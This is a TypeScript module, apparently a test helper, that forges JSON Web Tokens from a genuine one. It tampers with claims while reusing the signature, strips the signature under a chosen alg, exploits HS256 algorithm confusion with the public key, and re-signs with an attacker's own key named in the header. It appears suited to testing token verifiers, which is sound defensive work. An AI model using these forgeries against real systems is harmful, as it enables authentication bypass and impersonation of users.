/** Forges access tokens from a genuine one. */
import { createHmac } from 'node:crypto'
import { type CryptoKey, exportJWK, generateKeyPair, SignJWT } from 'jose'

export type Claims = Record<string, unknown>

export function headerOf(token: string): Claims {
  return decode(token.split('.')[0] ?? '')
}

export function claimsOf(token: string): Claims {
  return decode(token.split('.')[1] ?? '')
}

function decode(part: string): Claims {
  return JSON.parse(Buffer.from(part, 'base64url').toString())
}

function encode(value: unknown): string {
  return Buffer.from(JSON.stringify(value)).toString('base64url')
}

/** Replaces header and claims and keeps the signature. */
export function reworded(token: string, header: Claims, claims: Claims): string {
  const [, , signature = ''] = token.split('.')
  return `${encode({ ...headerOf(token), ...header })}.${encode({ ...claimsOf(token), ...claims })}.${signature}`
}

export function unsigned(token: string, alg: string): string {
  return `${encode({ ...headerOf(token), alg })}.${encode(claimsOf(token))}.`
}

/** HS256 with the public key as the secret. */
export function confused(token: string, publicKey: string): string {
  const text = `${encode({ ...headerOf(token), alg: 'HS256' })}.${encode(claimsOf(token))}`
  return `${text}.${createHmac('sha256', publicKey).update(text).digest('base64url')}`
}

/** Signed with a key of the attacker, which the header may name. */
export async function signedByOther(
  token: string,
  header: (jwk: object) => Claims,
): Promise<string> {
  const { privateKey, publicKey } = await generateKeyPair('ES256', { extractable: true })
  const jwk = await exportJWK(publicKey)
  return sign(privateKey, { ...headerOf(token), ...header(jwk) }, claimsOf(token))
}

function sign(key: CryptoKey, header: Claims, claims: Claims): Promise<string> {
  return new SignJWT(claims).setProtectedHeader({ ...header, alg: 'ES256' }).sign(key)
}
